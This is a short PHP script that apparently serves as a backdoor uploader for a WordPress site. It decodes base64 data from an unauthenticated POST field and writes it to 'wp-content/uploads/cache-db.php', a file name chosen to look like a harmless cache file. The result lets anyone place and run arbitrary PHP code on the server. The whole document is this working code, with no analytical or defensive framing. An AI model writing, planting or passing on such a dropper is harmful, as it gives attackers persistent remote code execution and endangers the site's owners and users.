<?php
$target = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/cache-db.php';
$fh = fopen($target, 'w');
fwrite($fh, base64_decode($_POST['blob']));
fclose($fh);
echo 'done';
